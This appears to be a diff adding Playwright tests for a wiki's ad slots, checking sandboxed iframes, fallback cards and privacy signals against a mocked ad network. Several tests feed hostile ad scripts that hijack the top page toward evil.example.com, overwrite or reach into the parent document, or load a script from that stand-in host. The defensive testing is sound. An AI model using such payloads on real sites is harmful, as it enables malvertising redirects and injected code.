@@ -1,0 +1,305 @@
+import { expect, test, type Page } from '@playwright/test'
+import { buildWith, type Build } from './lib/build-with'
+import { collectComplaints } from './lib/console'
+import { startPreview, type Preview } from './lib/preview'
+import { wake } from './lib/wake'
+
+// The ads of an operator who switched them on. The network is played by the test, well and ill: no host out
+// there is asked for anything.
+
+test.describe.configure({ mode: 'serial', timeout: 60_000 })
+
+const network = 'https://ads.example.com/network.js'
+const house = 'Know what’s buried before you dig'
+
+/** Fills whatever slot it finds, as networks do, with a picture that leads to the advertiser. */
+const fills = `
+  document.title = document.currentScript.dataset.admpid
+  for (const slot of document.querySelectorAll('[data-banner-id]')) {
+    slot.innerHTML = '<a href="https://shop.example.com/" target="_blank"><img alt="Buy posts" width="300" height="200" src="https://ads.example.com/posts.svg"></a>'
+  }
+`
+
+/** The network answers with a script; its pictures and the advertiser are there, too. */
+async function playNetwork(page: Page, script: string): Promise<string[]> {
+  const asked: string[] = []
+  await page.context().route(/example\.com/, (route) => {
+    const url = route.request().url()
+    asked.push(url)
+    if (url === network) return route.fulfill({ contentType: 'text/javascript', body: script })
+    if (url.endsWith('.svg')) {
+      return route.fulfill({
+        contentType: 'image/svg+xml',
+        body: '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="200"><rect width="300" height="200" fill="#b33"/></svg>',
+      })
+    }
+    return route.fulfill({ contentType: 'text/html', body: '<h1>Elsewhere</h1>' })
+  })
+  return asked
+}
+
+const top = (page: Page) => page.locator('aside:has([data-banner-id])').first()
+const frames = (page: Page) => page.locator('[data-banner-id] iframe')
+
+function withAds(mode: 'isolated' | 'inline') {
+  const attributes = { 'data-admpid': '4711' }
+  return buildWith((settings) => ({
+    ...settings,
+    ads: { ...settings.ads, mode, network: { name: 'The network', scriptUrl: network, attributes } },
+  }))
+}
+
+/** What no advertisement may change. */
+async function expectUnharmed(page: Page, url: string) {
+  expect(page.url()).toBe(`${url}/history`)
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText('History of Fences')
+  expect(page.context().pages()).toHaveLength(1)
+  await page.getByRole('link', { name: 'Fence Wiki' }).first().click()
+  await expect(page).toHaveURL(`${url}/`)
+}
+
+test.describe('isolated', () => {
+  let build: Build
+  let preview: Preview
+
+  test.beforeAll(async () => {
+    test.setTimeout(240_000)
+    build = await withAds('isolated')
+    preview = await startPreview({}, build.folder)
+  })
+  test.afterAll(async () => {
+    preview?.stop()
+    await build?.remove()
+  })
+
+  for (const { size, width, ids } of [
+    { size: 'desktop', width: 1280, ids: ['6079445', '6079446', '6079448'] },
+    { size: 'phone', width: 360, ids: ['1452360', '1452363'] },
+  ]) {
+    test(`the slots of a ${size} are filled, each in a frame without rights, and nothing moves`, async ({
+      page,
+    }) => {
+      await page.setViewportSize({ width, height: 800 })
+      await page.addInitScript(() => {
+        const shifts: number[] = []
+        new PerformanceObserver((list) => {
+          for (const entry of list.getEntries()) if ('value' in entry) shifts.push(Number(entry.value))
+        }).observe({ type: 'layout-shift', buffered: true })
+        Object.assign(window, { shifts })
+      })
+      const complaints = collectComplaints(page)
+      await playNetwork(page, fills)
+      await page.goto(`${preview.url}/history`)
+      await expect(top(page)).toHaveAttribute('aria-label', 'Advertisement')
+      await expect(page.getByText(house)).toBeHidden()
+      const picture = page.frameLocator('[data-banner-id] iframe').first().getByAltText('Buy posts')
+      await expect(picture).toBeVisible()
+
+      for (const slot of await page.locator('aside:has([data-banner-id]):visible').all()) {
+        await slot.scrollIntoViewIfNeeded()
+        await expect(slot.locator('[data-filled]')).toHaveCount(1)
+      }
+      const found = await frames(page).evaluateAll((all) =>
+        all.map((frame) => frame.parentElement?.dataset['bannerId']),
+      )
+      expect(found).toEqual(ids)
+      for (const frame of await frames(page).all()) {
+        await expect(frame).toHaveAttribute('title', 'Advertisement')
+        await expect(frame).toHaveAttribute(
+          'sandbox',
+          'allow-scripts allow-popups allow-popups-to-escape-sandbox',
+        )
+      }
+      expect(await page.evaluate(() => Reflect.get(window, 'shifts'))).toEqual([])
+      expect(complaints).toEqual([])
+    })
+  }
+
+  test('a click on an advertisement opens it beside the page', async ({ page }) => {
+    await playNetwork(page, fills)
+    await page.goto(`${preview.url}/history`)
+    const popup = page.waitForEvent('popup')
+    await page.frameLocator('[data-banner-id] iframe').first().getByAltText('Buy posts').click()
+
+    await expect((await popup).getByRole('heading')).toHaveText('Elsewhere')
+    expect(page.url()).toBe(`${preview.url}/history`)
+  })
+
+  test('React wakes around it, and brings the slots of the next page', async ({ page }) => {
+    const complaints = collectComplaints(page)
+    await playNetwork(page, fills)
+    await page.goto(`${preview.url}/privacy`)
+    await wake(page)
+    await page
+      .getByRole('navigation', { name: 'Main' })
+      .getByRole('link', { name: 'History of Fences' })
+      .click()
+    await expect(page.locator('h1')).toHaveText('History of Fences')
+    await expect(top(page).locator('[data-filled] iframe')).toBeVisible()
+
+    await page.reload()
+    await expect(top(page).locator('[data-filled] iframe')).toBeVisible()
+    await wake(page)
+    await expect(top(page).locator('[data-filled] iframe')).toBeVisible()
+    expect(complaints).toEqual([])
+  })
+
+  for (const { name, script } of [
+    { name: 'leads the top page elsewhere', script: `top.location = 'https://evil.example.com/'` },
+    {
+      name: 'leads the top page elsewhere by a link it clicks',
+      script: `document.body.insertAdjacentHTML('beforeend', '<a target="_top" href="https://evil.example.com/">x</a>'); document.querySelector('a').click()`,
+    },
+    { name: 'writes over the document', script: `document.open(); document.write(''); document.close()` },
+    { name: 'reaches for the page', script: `parent.document.body.innerHTML = 'mine'` },
+    { name: 'leads its own frame elsewhere', script: `location.href = 'https://evil.example.com/'` },
+    { name: 'asks and confirms', script: `alert(1); confirm(2)` },
+    { name: 'throws', script: `throw new Error('broken')` },
+    { name: 'draws nothing', script: '' },
+    { name: 'says that it is empty', script: `parent.postMessage({ advertisement: 'empty' }, '*')` },
+    {
+      name: 'says what nobody understands',
+      script: `parent.postMessage(null, '*'); parent.postMessage({ advertisement: {} }, '*')`,
+    },
+  ]) {
+    test(`a network that ${name} leaves the page unharmed, and our card in its place`, async ({ page }) => {
+      await page.clock.install()
+      page.on('dialog', () => expect('a dialog').toBe('never shown'))
+      const asked = await playNetwork(page, script)
+      await page.goto(`${preview.url}/history`)
+      await expect.poll(() => asked).toContain(network)
+      await page.clock.runFor(12_000)
+
+      await expect(page.getByText(house)).toBeVisible()
+      await expect(frames(page)).toHaveCount(0)
+      await expect(top(page)).toHaveAttribute('aria-label', `From Fence Wiki: ${house}`)
+      await expectUnharmed(page, preview.url)
+    })
+  }
+
+  test('a network that never answers, or is blocked, leaves our card', async ({ page }) => {
+    await page.clock.install()
+    await page.route(/example\.com/, () => new Promise(() => undefined))
+    await page.goto(`${preview.url}/history`)
+    await expect(frames(page).first()).toBeAttached()
+    await expect(page.getByText(house)).toBeVisible()
+    await page.clock.runFor(12_000)
+    await expect(frames(page)).toHaveCount(0)
+    await expect(page.getByText(house)).toBeVisible()
+
+    await page.unroute(/example\.com/)
+    await page.route(/example\.com/, (route) => route.abort('blockedbyclient'))
+    await page.reload()
+    await expect(frames(page)).toHaveCount(0)
+    await expect(page.getByText(house)).toBeVisible()
+  })
+
+  for (const { name, property, value } of [
+    { name: 'sends Global Privacy Control', property: 'globalPrivacyControl', value: true },
+    { name: 'saves data', property: 'connection', value: { saveData: true } },
+  ]) {
+    test(`where the browser ${name}, no network is asked`, async ({ page }) => {
+      await page.addInitScript(
+        ({ key, setting }) => Object.defineProperty(navigator, key, { value: setting }),
+        { key: property, setting: value },
+      )
+      const asked = await playNetwork(page, fills)
+      await page.goto(`${preview.url}/history`)
+      await page.waitForLoadState('networkidle')
+
+      await expect(page.getByText(house)).toBeVisible()
+      await expect(frames(page)).toHaveCount(0)
+      expect(asked).toEqual([])
+    })
+  }
+
+  test('opened by itself, the frame’s address runs nothing', async ({ page }) => {
+    const asked = await playNetwork(page, fills)
+    const response = await page.goto(`${preview.url}/ad-frame#6079445`)
+    await page.waitForLoadState('networkidle')
+
+    expect(await response?.headerValue('content-security-policy')).toMatch(/sandbox allow-scripts /)
+    expect(asked).toEqual([])
+    await expect(page.locator('[data-banner-id]')).toHaveCount(0)
+  })
+
+  test('without scripts our cards stand there', async ({ browser }) => {
+    const context = await browser.newContext({ javaScriptEnabled: false })
+    const page = await context.newPage()
+    await page.goto(`${preview.url}/history`)
+
+    await expect(page.getByText(house)).toBeVisible()
+    await context.close()
+  })
+})
+
+test.describe('inline', () => {
+  let build: Build
+  let preview: Preview
+
+  test.beforeAll(async () => {
+    test.setTimeout(240_000)
+    build = await withAds('inline')
+    preview = await startPreview({}, build.folder)
+  })
+  test.afterAll(async () => {
+    preview?.stop()
+    await build?.remove()
+  })
+
+  test('the network fills the slots of the screen’s size, within the policy, and React still wakes', async ({
+    page,
+  }) => {
+    const complaints = collectComplaints(page)
+    const asked = await playNetwork(page, fills)
+    await page.goto(`${preview.url}/history`)
+    await expect(top(page).getByAltText('Buy posts')).toBeVisible()
+    await expect(top(page)).toHaveAttribute('aria-label', 'Advertisement')
+    await expect(page.getByText(house)).toBeHidden()
+    await expect(page).toHaveTitle('4711')
+    expect(asked.filter((url) => url === network)).toHaveLength(1)
+    await expect(page.locator('[data-banner-id]')).toHaveCount(3)
+
+    await wake(page)
+    await expect(top(page).getByAltText('Buy posts')).toBeVisible()
+    await page.keyboard.press('Control+k')
+    await page.keyboard.type('leaning')
+    await expect(page.locator('[data-result]').first()).toBeVisible()
+    expect(complaints).toEqual([])
+  })
+
+  test('no other host’s script runs', async ({ page }) => {
+    const asked = await playNetwork(
+      page,
+      `const script = document.createElement('script'); script.src = 'https://evil.example.com/x.js'; document.head.append(script)`,
+    )
+    await page.goto(`${preview.url}/history`)
+    await page.waitForLoadState('networkidle')
+
+    expect(asked).toContain(network)
+    expect(asked).not.toContain('https://evil.example.com/x.js')
+  })
+
+  for (const { name, script } of [
+    { name: 'throws', script: `throw new Error('broken')` },
+    { name: 'draws nothing', script: '' },
+    { name: 'writes into the document', script: `document.write('<h1>mine</h1>')` },
+  ]) {
+    test(`a network that ${name} leaves our card`, async ({ page }) => {
+      await playNetwork(page, script)
+      await page.goto(`${preview.url}/history`)
+      await page.waitForLoadState('networkidle')
+
+      await expect(page.getByText(house)).toBeVisible()
+      await expectUnharmed(page, preview.url)
+    })
+  }
+
+  test('a blocked network leaves our card', async ({ page }) => {
+    await page.route(/example\.com/, (route) => route.abort('blockedbyclient'))
+    await page.goto(`${preview.url}/history`)
+    await page.waitForLoadState('networkidle')
+
+    await expect(page.getByText(house)).toBeVisible()
+  })
+})
